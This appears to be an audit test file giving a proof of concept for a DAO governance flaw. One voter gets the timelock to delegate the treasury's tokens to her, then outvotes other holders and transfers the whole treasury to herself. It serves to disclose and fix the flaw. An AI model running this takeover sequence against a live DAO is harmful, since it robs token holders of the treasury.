/**
 * FINDING 58, exploit of the governor. One vote won is won for good: the treasury's own tokens vote for whom it names.
 *
 * Who:    whoever carries one vote of the DAO, for which 40 000 AIUS of a second may do (finding 35).
 * Needs:  a proposal that the timelock delegates its votes, as any holder may; two years on it holds 113 000 AIUS of vested
 *         tokens.
 * Costs:  nothing; its own tokens may be sold afterwards.
 * Brings: all that the treasury has, 113 000 AIUS here, against 99 999 votes of tokens that others own.
 * Harms:  every holder: from then on each proposal of its author passes unless 113 000 votes, nearly three quorums, are against
 *         it.
 * Rule:   section 7: the timelock is treasury and owner and holds AIUS with Votes; nothing keeps its tokens from voting.
 * Mend:   votes of the treasury's tokens do not count; the timelock cannot delegate.
 * On the contracts alone: the model has no governor.
 */
import { assert } from "chai";
import { DAY, WAD, type Wei } from "../../sim/base/types.ts";
import { token, vesting } from "../../sim/chain/actions.ts";
import {
  AGAINST,
  alice,
  bob,
  carol,
  DEADLINE,
  FOR,
  Proposal,
  QUORUM,
  TIMELOCK_DELAY,
  useVoters,
} from "../governance/fixture.ts";
import { addressIn } from "../support/deployment.ts";
import { act, assertOk, view } from "../support/outcomes.ts";

/** Half of the DAO's 100 000 and seven tenths of the incentives' 90 000. */
const TREASURY = 113_000n * WAD;

describe("FINDING: the treasury's tokens vote for whom one vote has named, on evm", () => {
  const chain = useVoters();
  const balance = async () => (await view(chain(), "token", "balanceOf", [alice])) as Wei;

  it("without a token of her own, alice outvotes 99 999 that others own", async () => {
    for (const wallet of ["dao", "lpRewards", "bonds"])
      assertOk(await act(chain(), vesting.release(alice, wallet, addressIn(chain(), "token"))));
    await new Proposal(chain(), [["token", "delegate", [alice]]]).carryOut();

    const start = DEADLINE + 2 + TIMELOCK_DELAY;
    assertOk(await act(chain(), token.transfer(alice, bob, QUORUM), start));
    assert.equal(await balance(), 0n);
    const raid = new Proposal(chain(), [["token", "transfer", [alice, TREASURY]]]);
    assertOk(await raid.propose(start + 1, alice));
    for (const [voter, support] of [
      [alice, FOR],
      [bob, AGAINST],
      [carol, AGAINST],
    ] as const)
      assertOk(await raid.vote(voter, support, start + DAY + 2));
    assertOk(await raid.queue(start + 8 * DAY + 2));
    assertOk(await raid.execute(start + 8 * DAY + 2 + TIMELOCK_DELAY));
    assert.equal(await balance(), TREASURY);
  });
});
